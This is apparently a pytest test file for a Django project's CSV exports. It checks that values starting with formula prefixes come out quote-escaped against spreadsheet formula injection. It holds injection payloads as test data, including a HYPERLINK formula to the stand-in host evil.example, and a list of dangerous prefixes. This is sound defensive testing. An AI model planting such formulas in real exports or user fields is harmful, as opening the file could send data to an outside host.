"""Every CSV the project writes for download neutralises spreadsheet formulas in every text cell.

Each writer gets a value starting with each character OWASP lists (= + - @ tab CR) in every text
column, and no cell of the output may start with one of them: it must come out quoted with `'`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client

from rightsdesk.community import services as community
from rightsdesk.community.models import Member
from rightsdesk.core import csvsafe
from rightsdesk.gaps import selectors, store
from rightsdesk.gaps import views as gaps_views
from rightsdesk.gaps.metrics import queries
from rightsdesk.gaps.worklists import CSV_FIELDS, to_csv
from tests.community.conftest import signed_in
from tests.factories import StaffAccount

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS = (*PREFIXES, "|", "%")
NUMBER = re.compile(r"-?[0-9,.]+")  # a negative number is data, not a formula


def hostile(prefix: str, column: str) -> str:
    return f'{prefix}HYPERLINK("https://evil.example/?{column}","x")'


def assert_neutralised(text: str, expected: Iterable[str]) -> None:
    """No cell starts like a formula, and every hostile value is there, prefixed with `'`."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    for cell in cells:
        assert NUMBER.fullmatch(cell) or not cell.startswith(DANGEROUS), repr(cell)
    for value in expected:
        assert ("'" + value if value.startswith(DANGEROUS) else value) in cells, repr(value)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_shared_writers_neutralise_every_prefix(prefix: str) -> None:
    out = io.StringIO()
    writer = csvsafe.Writer(out)
    writer.writerow([hostile(prefix, "a"), hostile(prefix, "b"), 3, -1.5, "-2", True, None])
    dict_out = io.StringIO()
    dict_writer = csvsafe.DictWriter(dict_out, ["x", "y"])
    dict_writer.writeheader()
    dict_writer.writerow({"x": hostile(prefix, "x"), "y": "plain"})
    assert_neutralised(out.getvalue(), [hostile(prefix, "a"), hostile(prefix, "b")])
    assert_neutralised(dict_out.getvalue(), [hostile(prefix, "x")])
    # Numbers stay numbers, also negative ones written as text.
    assert next(csv.reader(io.StringIO(out.getvalue())))[2:6] == ["3", "-1.5", "-2", "True"]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_members_export_neutralises_every_column(
    handler: StaffAccount, prefix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(community, "_mail", lambda *args, **kwargs: None)
    joined = community.member_join(
        pseudonym=hostile(prefix, "pseudonym"),
        kind="individual",
        languages=[hostile(prefix, "languages")],
        regions=[hostile(prefix, "regions")],
        interests=[hostile(prefix, "interests")],
        email=hostile(prefix, "email") + "@example.org",
        confirm_url="https://x.example/c/",
        leave_url="https://x.example/l/",
    )
    # A stored value the export trusts (as a later migration or an admin could leave it); the
    # column holds 20 characters (PostgreSQL enforces it), so the formula is a short one.
    kind = f"{prefix}SUM(1;2)kind"
    Member.objects.filter(pk=joined.member.pk).update(kind=kind)
    response = signed_in(handler).get("/community/staff/members.csv")
    assert response.status_code == 200
    columns = ("pseudonym", "languages", "regions", "interests")
    expected = [kind, *(hostile(prefix, c) for c in columns)]
    address = hostile(prefix, "email").strip().lower() + "@example.org"  # stored normalised
    assert_neutralised(response.content.decode(), [*expected, address])


def gaps_rows(prefix: str, columns: Iterable[str]) -> list[dict[str, Any]]:
    return [{column: hostile(prefix, column) for column in columns}]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_gaps_downloads_neutralise_every_column(
    client: Client, prefix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    wiki_columns = gaps_views.WIKI_COLUMNS_ALL
    topic_columns = ("wiki", "language_name", "present", "title", "page_len", "length_score",
                     "stub", "need")  # fmt: skip
    monkeypatch.setattr(selectors, "overview", lambda: {"wikis": gaps_rows(prefix, wiki_columns)})
    monkeypatch.setattr(selectors, "wiki_detail", lambda wiki: {"wiki": wiki})
    monkeypatch.setattr(selectors, "worklist", lambda wiki, sources: gaps_rows(prefix, CSV_FIELDS))
    monkeypatch.setattr(
        selectors, "topic_detail", lambda qid: {"languages": gaps_rows(prefix, topic_columns)}
    )
    for url, columns in (
        ("/gaps/wikis.csv", wiki_columns),
        ("/gaps/wiki/mywiki/worklist.csv", CSV_FIELDS),
        ("/gaps/topic/Q42.csv", topic_columns),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_neutralised(response.content.decode(), [hostile(prefix, c) for c in columns])


@pytest.mark.parametrize("prefix", PREFIXES)
def test_gaps_command_csv_neutralises_every_column(
    prefix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Connection:
        def close(self) -> None:
            pass

    monkeypatch.setattr(store, "connect_published", Connection)
    report_columns = (
        *("wiki", "language_name", "present", "topics", "coverage", "extent", "gap_index"),
        *("need", "priority", "language", "name", "has_wikipedia"),
    )
    monkeypatch.setattr(queries, "wiki_table", lambda con: gaps_rows(prefix, report_columns))
    monkeypatch.setattr(queries, "worklist", lambda con, **kw: gaps_rows(prefix, CSV_FIELDS))
    report = io.StringIO()
    call_command("gaps", "report", "--format", "csv", stdout=report)
    assert_neutralised(report.getvalue(), [hostile(prefix, c) for c in report_columns])
    worklist = io.StringIO()
    call_command("gaps", "worklist", "--lang", "my", stdout=worklist)
    assert_neutralised(worklist.getvalue(), [hostile(prefix, c) for c in CSV_FIELDS])
    # The function behind both worklist outputs, with the wiki column too.
    assert_neutralised(
        to_csv(gaps_rows(prefix, CSV_FIELDS), wiki=hostile(prefix, "wiki")),
        [hostile(prefix, c) for c in (*CSV_FIELDS, "wiki")],
    )
